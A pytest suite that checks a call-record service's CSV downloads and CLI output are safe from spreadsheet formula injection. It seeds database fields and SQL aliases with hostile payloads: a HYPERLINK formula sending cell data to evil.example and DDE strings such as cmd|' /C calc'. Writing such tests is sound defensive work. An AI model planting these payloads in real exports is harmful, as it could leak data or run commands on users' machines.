"""CSV formula injection (issue 12, item 4): every CSV the service or the CLI writes is
spreadsheet-safe by default, without mangling phone numbers or negative amounts.

The rule (engine/export.py) exists twice — a SQL expression per text column for
the streamed downloads, and `neutralise` in Python for headers and the CLI — so
the two are checked against each other on both engine interfaces, then every
download route is checked with hostile values ingested as data and hostile
column aliases chosen in SQL, with `raw=true` as the way back to the stored text.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from cdrhouse.api.app import create_app
from cdrhouse.api.render import render
from cdrhouse.api.service import ServiceConfig
from cdrhouse.engine import accounts as acc
from cdrhouse.engine import keys
from cdrhouse.engine.db import Database
from cdrhouse.engine.export import neutralise, safe_text_sql, spreadsheet_safe
from cdrhouse.tiering.archive import Tiering
from cdrhouse.tiering.policy import add_months, month_of
from cdrhouse.tiering.store import ArchiveConfig, LocalStore

#: input -> what a spreadsheet user must get. The class of attack: every formula
#: start (= + - @ TAB CR), DDE payloads, formulas hidden behind a sign, NUL bytes;
#: and what must survive: E.164 and spaced numbers, signed decimals, plain text.
CASES = [
    ('=HYPERLINK("http://evil.example/?"&A1,"click")', '\'=HYPERLINK("http://evil.example/?"&A1,"click")'),
    ("=1+1", "'=1+1"),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-2+3", "'-2+3"),
    ("+1-555-0100", "'+1-555-0100"),
    ("+44(0)20", "'+44(0)20"),
    ("+", "'+"),
    ("-", "'-"),
    ("=", "'="),
    ("+442079460000", "+442079460000"),
    ("+44 20 7946 0000", "+44 20 7946 0000"),
    ("-12.5", "-12.5"),
    ("+1.5", "+1.5"),
    ("442079460000", "442079460000"),
    ("NORMAL_CLEARING", "NORMAL_CLEARING"),
    ("a=b", "a=b"),
    (" =1+1", " =1+1"),
    ("", ""),
    ("nul\0byte", "nul\ufffdbyte"),
    ("=\0", "'=\ufffd"),
    ("\0=1", "\ufffd=1"),
    ("Zürich +41", "Zürich +41"),
]


@pytest.mark.parametrize("value, expected", CASES)
def test_the_python_rule(value: str, expected: str) -> None:
    assert neutralise(value) == expected


def test_the_sql_rule_is_the_python_rule(store: Database) -> None:
    values = [v for v, _ in CASES]
    for type_ in ("String", "LowCardinality(String)", "Nullable(String)",
                  "LowCardinality(Nullable(String))"):
        got = store.rows(
            f"SELECT {safe_text_sql('CAST(v AS ' + type_ + ')', type_)} "
            "FROM (SELECT arrayJoin({vs:Array(String)}) AS v, rowNumberInAllBlocks() AS n) "
            "ORDER BY n", {"vs": values})
        assert [r[0] for r in got] == [e for _, e in CASES], type_
    assert store.rows(f"SELECT {safe_text_sql('CAST(NULL AS Nullable(String))', 'Nullable(String)')}"
                      ) == [(None,)]


def test_only_text_columns_are_rewritten() -> None:
    sql = "SELECT 1"
    assert spreadsheet_safe(sql, ["Int64", "Decimal(18, 6)", "DateTime64(3, 'UTC')",
                                  "Nullable(Decimal(18, 6))", "Array(String)",
                                  "Enum8('a' = 1)", "Tuple(String, UInt8)"]) == sql
    wrapped = spreadsheet_safe(sql, ["Decimal(18, 6)", "String"])
    assert "tupleElement(__row, 1)," in wrapped and "match(replaceAll(tupleElement(__row, 2)" in wrapped


def test_cli_csv_is_safe_unless_raw() -> None:
    out = io.StringIO()
    rows = [("=1+1", "+442079460000", -12.5, None, dt.date(2026, 3, 1))]
    render(["@alias", "n", "v", "x", "d"], rows, "csv", out)
    assert list(csv.reader(io.StringIO(out.getvalue()))) == [
        ["'@alias", "n", "v", "x", "d"], ["'=1+1", "+442079460000", "-12.5", "", "2026-03-01"]]
    raw = io.StringIO()
    render(["@alias"], [("=1+1",)], "csv", raw, raw=True)
    assert raw.getvalue().splitlines() == ["@alias", "=1+1"]


# -- every CSV route ----------------------------------------------------------------------

HOSTILE = {  # column -> (stored, expected in a safe download)
    "src_number": ('=HYPERLINK("http://evil.example","x")', '\'=HYPERLINK("http://evil.example","x")'),
    "dst_number": ("+442079460000", "+442079460000"),
    "sip_reason": ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    "codec": ("@SUM(A1)", "'@SUM(A1)"),
    "country": ("\t=1", "'\t=1"),
    "recording_url": ("-2+3\0", "'-2+3\ufffd"),
}
CALL = "hostile-1"
COLUMNS = list(HOSTILE) + ["call_id", "customer_charge"]
ALIAS_SQL = ("SELECT src_number AS \"=cmd|' /C calc'!A0\", dst_number, customer_charge "
             f"FROM cdrs WHERE call_id = '{CALL}'")


@pytest.fixture
def hostile(store: Database, tmp_path: Path):
    """One call full of formulas, in a month old enough to archive; an app with the
    archive in a directory; the month archived (rows kept hot in a second copy)."""
    acc.add_account(store, "acme", "C1", "customer")
    acc.add_account(store, "acme", "K1", "carrier")
    old = add_months(month_of(dt.datetime.now(dt.UTC).date()), -6)
    start = f"{old // 100:04d}-{old % 100:02d}-10 10:00:00"
    for call_id in (CALL, f"{CALL}-archived"):
        store.command(
            "INSERT INTO cdr_records (tenant_id, call_id, start_time, end_time, duration, "
            "billsec, customer_id, carrier_id, disposition, src_number, dst_number, sip_reason, "
            "codec, country, recording_url, customer_charge, version) VALUES ('acme', {c:String}, "
            "{s:DateTime64(3, 'UTC')}, {s:DateTime64(3, 'UTC')} + 60, 60, 60, 1, 1, 'ANSWERED', "
            "{src:String}, {dst:String}, {sip:String}, {codec:String}, {country:String}, "
            "{rec:String}, -12.5, 1)",
            {"c": call_id, "s": start, **{k: v[0] for k, v in {
                "src": HOSTILE["src_number"], "dst": HOSTILE["dst_number"],
                "sip": HOSTILE["sip_reason"], "codec": HOSTILE["codec"],
                "country": HOSTILE["country"], "rec": HOSTILE["recording_url"]}.items()}})
    warm = tmp_path / "warm"
    Tiering(store, LocalStore(warm)).run(months=[old])
    store.command(  # the first call back into the hot table, the copy stays archived
        "INSERT INTO cdr_records SELECT * FROM file({p:String}, 'Parquet') WHERE call_id = {c:String}",
        {"p": str(next(warm.rglob("*.parquet"))), "c": CALL})
    secret = keys.create_key(store, "tenant:acme")[1]
    config = ServiceConfig(store=store.config, pool_size=2, auth_failures_per_minute=1000,
                           archive=ArchiveConfig(url=str(warm)))
    with TestClient(create_app(config)) as client:
        yield client, {"Authorization": f"Bearer {secret}"}, old


def _table(resp) -> list[dict]:
    assert resp.status_code == 200, resp.text
    return list(csv.DictReader(io.StringIO(resp.content.decode())))


def _requests(old: int, raw: bool) -> dict:
    flag = {"raw": "true"} if raw else {}
    view = {"range": "all", "columns": ",".join(COLUMNS), **flag}
    search = {"range": "all", "columns": COLUMNS, "rules": {"condition": "AND", "rules": [
        {"field": "call_id", "operator": "begins_with", "value": "hostile"}]}}
    sql = f"SELECT {', '.join(COLUMNS)} FROM cdrs WHERE call_id LIKE 'hostile%'"
    return {
        "cdrs.csv": ("GET", "/v1/cdrs.csv", {"params": view}),
        "search.csv": ("POST", "/v1/cdrs/search.csv", {"json": search, "params": flag}),
        "sql.csv": ("POST", "/v1/sql.csv", {"json": {"sql": sql}, "params": flag}),
        "archive sql.csv": ("POST", "/v1/sql.csv", {"json": {"sql": sql, "include_archive": True},
                                                   "params": flag}),
        "archive csv": ("GET", f"/v1/archive/{old}", {"params": {"format": "csv", **flag}}),
    }


@pytest.mark.parametrize("route", ["cdrs.csv", "search.csv", "sql.csv", "archive sql.csv",
                                   "archive csv"])
def test_every_csv_route_is_spreadsheet_safe_by_default(hostile, route: str) -> None:
    client, auth, old = hostile
    method, path, kwargs = _requests(old, raw=False)[route]
    rows = _table(client.request(method, path, headers=auth, **kwargs))
    assert rows, route
    for row in rows:
        for column, (_, expected) in HOSTILE.items():
            assert row[column] == expected, (route, column, row[column])
        assert row["call_id"].startswith("hostile") and row["customer_charge"] == "-12.5"
    method, path, kwargs = _requests(old, raw=True)[route]
    for row in _table(client.request(method, path, headers=auth, **kwargs)):
        for column, (stored, _) in HOSTILE.items():
            assert row[column] == stored, (route, column)


def test_hostile_header_aliases_are_neutralised(hostile) -> None:
    client, auth, _ = hostile
    safe = client.post("/v1/sql.csv", json={"sql": ALIAS_SQL}, headers=auth)
    lines = list(csv.reader(io.StringIO(safe.content.decode())))
    assert lines[0] == ["'=cmd|' /C calc'!A0", "dst_number", "customer_charge"]
    assert lines[1] == [HOSTILE["src_number"][1], "+442079460000", "-12.5"]
    raw = client.post("/v1/sql.csv", json={"sql": ALIAS_SQL}, params={"raw": "true"},
                      headers=auth)
    assert list(csv.reader(io.StringIO(raw.content.decode())))[0][0] == "=cmd|' /C calc'!A0"
    # names that repeat or are not identifiers still come out, one cell each
    odd = client.post("/v1/sql.csv", headers=auth, json={"sql": (
        "SELECT src_number, src_number, tuple(src_number, 1) AS t, [src_number] AS a "
        f"FROM cdrs WHERE call_id = '{CALL}'")})
    header, row = list(csv.reader(io.StringIO(odd.content.decode())))
    assert header == ["src_number", "src_number", "t", "a"]
    assert row[:2] == [HOSTILE["src_number"][1]] * 2
    assert row[2].startswith("('=HYPERLINK") and row[3].startswith("['=HYPERLINK")
